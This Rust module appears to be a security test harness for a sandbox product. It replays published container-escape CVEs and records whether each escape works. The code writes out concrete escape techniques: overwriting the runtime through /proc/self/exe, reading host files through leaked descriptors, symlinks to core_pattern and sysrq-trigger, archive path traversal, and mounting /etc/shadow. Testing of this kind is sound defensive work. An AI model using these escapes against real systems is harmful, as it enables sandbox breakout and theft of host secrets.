//! What published escapes of such software did, each as far as it can be done here.

use std::fs;
use std::io;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
use std::os::unix::process::CommandExt as _;

use super::super::call::call_with;
use super::super::{Attempt, Facts, Found};
use super::archive::{Archive, DIRECTORY, LINK};
use super::copy::{planted_link, swapped_directory};
use super::image::{outside, sandbox_of};
use super::product::{COMMAND, Product, run};
use super::with;

/// Descriptors of which one may be a directory of the host.
const DESCRIPTORS: std::ops::Range<u32> = 3..256;
/// How often a script is started whose interpreter is the agent.
const STARTS: u32 = 8;
/// A user that owns nothing.
const NOBODY: u32 = 65_534;

pub(super) const ATTEMPTS: &[(&str, Attempt)] = &[
    ("cve-2019-5736", |facts| with(facts, overwrite_program)),
    ("cve-2024-21626", |facts| {
        with(facts, |product| start_in_descriptor(product, facts))
    }),
    ("cve-2025-31133", |facts| {
        let links = [("dev/null", "/proc/sys/kernel/core_pattern")];
        with(facts, |product| look_at(product, &links))
    }),
    ("cve-2025-52565", |facts| {
        let links = [
            ("dev/console", "/proc/sysrq-trigger"),
            ("dev/pts", "/proc/sys"),
            ("dev/ptmx", "/proc/sysrq-trigger"),
        ];
        with(facts, |product| look_at(product, &links))
    }),
    ("cve-2025-52881", |facts| {
        with(facts, |product| {
            for links in [
                &[("proc", "elsewhere")][..],
                &[("proc", "tmp")],
                &[("proc", "/"), ("sys", "proc")],
                &[("proc/self", "/proc/sys/kernel"), ("dev", "proc")],
            ] {
                let found = look_at(product, links)?;
                if matches!(found, Found::Worked(_)) {
                    return Ok(found);
                }
            }
            Ok(Found::Failed("nothing lands elsewhere".to_owned()))
        })
    }),
    ("cve-2026-46703", |facts| {
        with(facts, |product| {
            let victim = product.directory("victim")?;
            let archive = Archive::default()
                .entry("out", LINK, &victim.display().to_string())
                .file("out/pwned", b"pwned");
            outside(product, &victim, archive)
        })
    }),
    ("cve-2026-120699", |facts| with(facts, mount_of_another)),
    ("cve-2026-77179", |facts| with(facts, swapped_directory)),
    ("cve-2026-103916", |facts| with(facts, planted_link)),
];

fn overwrite_program(product: &Product) -> io::Result<Found> {
    let sandbox = product.sandbox(&[])?;
    sandbox.bring_program()?;
    sandbox
        .script(r"mkdir /tmp/w && printf '#!/proc/self/exe\n' >/tmp/w/x && chmod 755 /tmp/w/x")?;
    sandbox.leave(&["/attack", "act", "overwrite", "/tmp/w/result"])?;
    for _ in 0..STARTS {
        // It fails, as it must: the agent knows no such word.
        sandbox.exec(&["/tmp/w/x"])?;
    }
    sandbox.script("touch /tmp/w/result.stop")?;
    let told = sandbox.script(
        "i=0; while [ ! -s /tmp/w/result ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; \
         cat /tmp/w/result",
    )?;
    let told = String::from_utf8_lossy(&told.out).into_owned();
    Ok(match told.as_str() {
        "overwrote it" => Found::Worked(told),
        "" => return Err(io::Error::other("nobody watched")),
        _ => Found::Failed(told),
    })
}

fn start_in_descriptor(product: &Product, facts: &Facts) -> io::Result<Found> {
    let sandbox = product.sandbox(&[])?;
    let above = format!("{}..{}", "../".repeat(12), facts.host_file);
    for number in DESCRIPTORS {
        let directory = format!("/proc/self/fd/{number}");
        let ran = product.run(["exec", "-w", &directory, &sandbox.id, "--", "cat", &above])?;
        if ran.said(pinfold_attack::SECRET) {
            return Ok(Found::Worked(format!("read it by {directory}")));
        }
    }
    Ok(Found::Failed("none leads to the host".to_owned()))
}

/// Makes a sandbox of an image with links, and looks at what should not have moved.
fn look_at(product: &Product, links: &[(&str, &str)]) -> io::Result<Found> {
    let mut archive =
        Archive::default()
            .entry("tmp/", DIRECTORY, "")
            .entry("elsewhere/", DIRECTORY, "");
    for (name, target) in links {
        archive = archive.entry(name, LINK, target);
    }
    match sandbox_of(product, archive)? {
        Err(word) => Ok(Found::Failed(word)),
        Ok(sandbox) => {
            let looked = sandbox.exec(&["/bin/attack", "act", "look"])?;
            Ok(if looked.ok {
                Found::Failed("all is in its place".to_owned())
            } else {
                Found::Worked(looked.word())
            })
        }
    }
}

/// Opens a path and no more, so that programs that are run have it too.
fn open_for_child(path: &str) -> io::Result<fs::File> {
    let mut options = fs::OpenOptions::new();
    let file = options.read(true).custom_flags(libc::O_PATH).open(path)?;
    let number = usize::try_from(file.as_raw_fd()).map_err(io::Error::other)?;
    let set = usize::try_from(libc::F_SETFD).map_err(io::Error::other)?;
    call_with(libc::SYS_fcntl, &[number, set, 0])?;
    Ok(file)
}

/// Names, as a user without rights, a file that is somebody else's.
fn mount_of_another(product: &Product) -> io::Result<Found> {
    let root = fs::metadata("/proc/self").is_ok_and(|own| {
        use std::os::unix::fs::MetadataExt as _;
        own.uid() == 0
    });
    let secret = if root {
        let secret = product.scratch("secret");
        fs::write(&secret, pinfold_attack::SECRET)?;
        fs::set_permissions(&secret, fs::Permissions::from_mode(0o600))?;
        secret
    } else {
        "/etc/shadow".into()
    };
    let mount = format!("{}:/stolen", secret.display());
    let mut command = product.command(["--json", "create", "--mount", &mount]);
    let socket = open_for_child(&product.given.socket)?;
    if root {
        // As who could not read it; the scratch directory is not this user's either. The socket may
        // lie in a directory that is closed to others, and need not: only its own mode counts here.
        let reached = format!("/proc/self/fd/{}", socket.as_raw_fd());
        command.uid(NOBODY).gid(NOBODY).current_dir("/");
        command.env("PINFOLD_SOCKET", reached);
    }
    let made = run(command, COMMAND)?;
    drop(socket);
    if !made.ok {
        return Ok(Found::Failed(made.word()));
    }
    let text: serde_json::Value = serde_json::from_slice(&made.out)?;
    let one = text.get(0).unwrap_or(&text);
    let id = one.get("id").and_then(serde_json::Value::as_str);
    let id = id.ok_or_else(|| io::Error::other("the sandbox has no id"))?;
    let read = product.run(["exec", id, "--", "cat", "/stolen"])?;
    product.run(["rm", "--force", id])?;
    Ok(if read.ok && !read.out.is_empty() {
        Found::Worked("read it".to_owned())
    } else {
        Found::Failed(read.word())
    })
}
